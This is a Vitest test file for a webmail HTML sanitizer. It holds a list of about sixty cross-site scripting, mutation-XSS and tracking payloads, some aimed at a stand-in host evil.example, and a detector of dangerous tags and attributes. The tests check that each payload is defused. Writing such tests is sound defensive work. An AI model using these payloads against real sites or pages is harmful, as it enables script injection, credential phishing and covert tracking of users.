import { Parser } from "htmlparser2";
import { describe, expect, test } from "vitest";
import { mailFramePolicy, sanitizeMailHtml } from "./sanitizeMailHtml.ts";

const inline = new Map([["pic@x", "/api/v1/attachments/1"]]);
const clean = (html: string, remoteContent = false) => sanitizeMailHtml(html, { remoteContent, inline }).html;

/** Everything in clean HTML that could do something, found by parsing it as a browser would. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (
        /^(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|video|audio|source|frame|frameset|applet|noscript|textarea|select|title)$/.test(
          name,
        )
      )
        found.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on|^(?:srcdoc|srcset|formaction|action|background|poster|ping|xlink:href|data|id|name|class)$/i.test(key))
          found.push(`${name} ${key}`);
        if (/^\s*(?:javascript|vbscript|data:text|blob|file)/i.test(value.replace(/[\0-\x20]/g, "")))
          found.push(`${key}=${value}`);
        if (key === "style" && /url|expression|import|behaviou?r|position|@|\\/i.test(value))
          found.push(`style ${value}`);
        if (key === "src" && /^(?:https?:)?\/\//i.test(value)) found.push(`remote ${value}`);
      }
    },
    onprocessinginstruction: (name) => found.push(name),
  });
  parser.end(html);
  return found;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<IMG SRC="jav\tascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=...'></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src='javascript:alert(1)'>",
  "<object data='javascript:alert(1)'>",
  "<embed src='https://evil.example/x.swf'>",
  "<form action='https://evil.example'><input name=password><button>go</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
  "<div style=\"background:url('https://evil.example/t.gif')\">x</div>",
  '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
  "<div style='color:red;font-family:\\75rl(https://evil.example)'>x</div>",
  "<img src='https://evil.example/t.gif'>",
  "<img src='//evil.example/t.gif'>",
  "<img srcset='https://evil.example/t.gif 1x' src='cid:pic@x'>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img src='data:text/html;base64,PHNjcmlwdD4='>",
  "<table background='https://evil.example/t.gif'><tr><td background='https://evil.example'>x</td></tr></table>",
  "<body background='https://evil.example/t.gif' onload=alert(1)>",
  "<video poster='https://evil.example/t.gif'><source onerror=alert(1)></video>",
  "<audio src='https://evil.example/x.mp3' autoplay>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<details open ontoggle=alert(1)>x</details>",
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href=x id=__proto__ name=constructor class=y>x</a>",
  '<p title="--></p><img src=x onerror=alert(1)>">x</p>',
  "\0<\0img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;alert(1)">x</a>',
  "<marquee onstart=alert(1)>x</marquee>",
  "<font color='\"><img src=x onerror=alert(1)>'>x</font>",
  "<img alt='<img src=x onerror=alert(1)>' src='https://evil.example'>",
];

describe("the HTML of a mail", () => {
  test.each(ATTACKS)("%s does nothing and asks nobody", (attack) => {
    expect(dangers(clean(attack))).toEqual([]);
    expect(dangers(clean(`<table><tr><td>${attack}</td></tr></table>`))).toEqual([]);
    // What is clean stays as it is: nothing comes to life by being cleaned again.
    expect(dangers(clean(clean(attack)))).toEqual([]);
  });

  test("keeps what a letter is made of", () => {
    const letter =
      '<p style="color:#333">Hello <b>Anna</b>,<br />see <a href="https://shop.example/o/1">order</a></p><ul><li>one</li></ul>';
    const shown = clean(letter);
    expect(shown).toContain("<b>Anna</b>");
    expect(shown).toContain('style="color:#333"');
    expect(shown).toMatch(/href="https:\/\/shop.example\/o\/1"[^>]*rel="noopener noreferrer nofollow"/);
    expect(shown).toContain("<li>one</li>");
  });

  test("shows pictures of the mail itself, by the address that we give them", () => {
    expect(clean('<img src="cid:pic@x" alt="A">')).toContain('src="/api/v1/attachments/1"');
    expect(clean('<img src="CID:pic%40x">')).toContain('src="/api/v1/attachments/1"');
    expect(clean('<img src="cid:__proto__" alt="words">')).toBe("<span>words</span>");
    expect(clean('<img src="data:image/png;base64,AAAA">')).toContain("data:image/png");
  });

  test("counts pictures from elsewhere, and shows them when they are asked for, never without encryption", () => {
    const html = '<img src="https://cdn.example/a.png" alt="logo"><img src="http://cdn.example/b.png">';
    expect(sanitizeMailHtml(html, { remoteContent: false, inline })).toMatchObject({ remoteCount: 2 });
    expect(clean(html)).toContain("<span>logo</span>");
    expect(clean(html, true)).toContain('src="https://cdn.example/b.png"');
  });

  test("the frame's policy lets nothing run", () => {
    expect(mailFramePolicy({ remoteContent: false })).not.toMatch(/https:|script/);
    expect(mailFramePolicy({ remoteContent: true })).toContain("img-src https:");
  });
});
